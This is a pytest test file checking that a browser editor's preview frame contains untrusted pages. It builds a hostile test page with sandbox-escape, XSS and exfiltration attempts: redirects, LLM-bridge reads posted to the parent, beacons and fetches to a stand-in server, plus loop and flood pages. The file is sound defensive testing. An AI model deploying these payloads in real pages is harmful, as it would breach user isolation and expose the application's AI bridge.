"""Pages that others wrote in the editor's preview: none reaches the editor, the bridge, the window or the network."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.qt.editor_lab import EDITOR, EditorLab, code, copy_site, listen, until_heard
from tests.qt.pages_lab import Tab
from tests.qt.window_host import Site


@pytest.fixture
def lab(tmp_path: Path, world: Callable[..., Any]) -> Iterator[EditorLab]:
    lab = EditorLab(tmp_path, world)
    yield lab
    lab.close()


# What a hostile page does. WEB is a web server that notes who asks it for anything.
REACH = {
    "parent": "parent.document.title = 'owned'",
    "top": "top.location = 'WEB/top'",
    "window": "if (open('WEB/open')) throw new Error('opened')",
    "location": "location = 'WEB/location'",
    "own pages": "location = 'peersky://p2p/ai-chat/'",
    "settings": "location.assign('peersky://settings/llm')",
    "storage": "localStorage.setItem('a', 'b')",
    "databases": "indexedDB.open('peersky-editor')",
    "bridge": "if (window.llm || window.llmMemory || window._llmBridge) parent.postMessage('bridge', '*')",
    "fetch": "fetch('WEB/fetch', {mode: 'no-cors'}).catch(() => 0)",
    "model": "fetch('llm://bridge/v1/models').then((reply) => reply.text()).then((text) =>"
    " text.includes('not_trusted') || parent.postMessage('llm: ' + text, '*'))",
    "question": "fetch('llm://bridge/v1/chat/completions', {method: 'POST', body: '{}'}).catch(() => 0)",
    "files": "fetch('peersky://p2p/editor/main.js').then(() => parent.postMessage('read', '*'))",
    "peers": "fetch('hyper://localhost/?key=a', {method: 'POST'}).then(() => parent.postMessage('wrote', '*'))",
    "beacon": "navigator.sendBeacon('WEB/beacon', 'x')",
    "socket": "new WebSocket('WEB/socket'.replace('http', 'ws'))",
    "events": "new EventSource('WEB/events')",
    "request": "const x = new XMLHttpRequest(); x.open('GET', 'WEB/xhr'); x.send()",
    "worker": "new Worker(URL.createObjectURL(new Blob(['fetch(\"WEB/worker\")'])))",
    "import": "import('WEB/import').catch(() => 0)",
    "picture": "new Image().src = 'WEB/picture'",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'WEB/frame'}))",
    "frame in it": "document.body.append(Object.assign(document.createElement('iframe'),"
    " {srcdoc: '<script>top.location = `WEB/inner`; fetch(`WEB/inner`)<\\/script>'}))",
    "dialogs": "alert(1); confirm(2); prompt(3); print()",
    "full screen": "document.documentElement.requestFullscreen().catch(() => 0)",
    "clipboard": "navigator.clipboard?.writeText('x').catch(() => 0)",
    "link": "Object.assign(document.createElement('a'), {href: 'WEB/link', target: '_top'}).click()",
}
MARKUP = """<!doctype html><base href="WEB/base/"><meta http-equiv="refresh" content="0; url=WEB/refresh">
<link rel="stylesheet" href="WEB/style"><link rel="prefetch" href="WEB/prefetch"><link rel="icon" href="WEB/icon">
<style>@import "WEB/import"; body { background: url(WEB/background); font-family: x }
@font-face { font-family: x; src: url(WEB/font) }</style>
<body><img src="WEB/img" srcset="WEB/srcset 2x"><video src="WEB/video" poster="WEB/poster"></video>
<object data="WEB/object"></object><embed src="WEB/embed"><iframe src="WEB/iframe"></iframe>
<svg><image href="WEB/svg"/></svg><script src="WEB/script"></script>
<form id="f" action="WEB/form" method="post" target="_top"><input name="a"></form>"""
SCRIPT = """
for (const [name, run] of Object.entries(REACH)) {
  try { run(); } catch { /* refused */ }
}
f.submit();
f.requestSubmit();
parent.postMessage({type: 'shown', text: '<img src=x onerror=alert(1)>'}, '*');
parent.postMessage({type: 'link', text: 'javascript:alert(1)'}, '*');
parent.postMessage(null, '*');
parent.postMessage('ran', '*');
"""


def hostile(web: str) -> str:
    calls = ", ".join(f"{name!r}: () => {{ {source} }}" for name, source in REACH.items())
    script = f"const REACH = {{ {calls} }};{SCRIPT}"
    return f"{MARKUP}<script>{script}</script>".replace("WEB", web)


def test_a_hostile_page_reaches_nothing(lab: EditorLab, site: Site) -> None:
    tab = lab.open()
    tab.run("localStorage.setItem('mine', 'secret')")
    before = len(lab.p2p.calls)
    listen(tab)
    windows: list[object] = []
    tab.page.page.newWindowRequested.connect(windows.append)
    copy_site(tab, lab.site(index_html=hostile(site.url("").rstrip("/"))))
    until_heard(tab, "ran")
    tab.until_text("#problems summary", "problems")
    # A second page in the same frame shows that the editor goes on, and that what the first began has ended.
    copy_site(tab, lab.site(index_html="<script>parent.postMessage('second', '*')</script>"))
    until_heard(tab, "second")
    assert site.seen == []
    assert windows == []
    assert lab.server.chats() == []
    assert [call for call in lab.p2p.calls[before:] if call[0] != "GET"] == []
    said = tab.run("return heard.filter((one) => typeof one === 'string')")
    assert set(said) == {"ran", "second"}
    assert tab.run("return [location.href, document.title, localStorage.length]") == [EDITOR, "Editor", 1]


def until_state(tab: Tab, part: str) -> None:
    tab.until_text("#preview-state", part)


def test_a_script_without_end_can_be_stopped_and_the_editor_stays_usable(lab: EditorLab) -> None:
    tab = lab.open()
    listen(tab)
    loop = "<script>parent.postMessage('loop', '*'); setTimeout(() => { for (;;); }, 50);</script>"
    copy_site(tab, lab.site(index_html=loop))
    until_heard(tab, "loop")
    # The editor's own thread is free.
    assert code(tab, "html") == loop
    until_state(tab, "does not answer")
    tab.click("#halt")
    until_state(tab, "Stopped.")
    assert tab.run("return document.querySelectorAll('iframe').length") == 0
    # Typing does not start it again; the button does.
    copy_site(tab, lab.site(index_html="<p>quiet</p>"))
    assert tab.run("return document.querySelectorAll('iframe').length") == 0
    tab.click("#run")
    tab.until("heard.filter((one) => one?.type === 'shown').length > 0")
    tab.until("document.getElementById('preview-state').textContent === ''")


def test_a_page_that_never_stops_talking_is_stopped(lab: EditorLab) -> None:
    tab = lab.open()
    flood = "<script>setInterval(() => { for (let i = 0; i < 200; i++) parent.postMessage('x', '*'); }, 1)</script>"
    copy_site(tab, lab.site(index_html=flood))
    until_state(tab, "Stopped.")


def test_the_page_runs_with_its_parts_and_tells_its_problems(lab: EditorLab) -> None:
    tab = lab.open()
    listen(tab)
    copy_site(
        tab,
        lab.site(
            index_html="<head><link rel=stylesheet href=style.css><script defer src=script.js></script></head>"
            "<body><p id=p>text</p><form id=f><button></button></form></body>",
            style_css="p { color: rgb(1, 2, 3) }",
            script_js="parent.postMessage(getComputedStyle(p).color, '*');"
            "f.onsubmit = (event) => { event.preventDefault(); parent.postMessage('form', '*'); };"
            "f.requestSubmit(); missing();",
        ),
    )
    until_heard(tab, "rgb(1, 2, 3)")
    until_heard(tab, "form")
    tab.until_text("#problems summary", "One problem")
    assert "missing is not defined" in tab.run("return document.querySelector('#problems li').textContent")
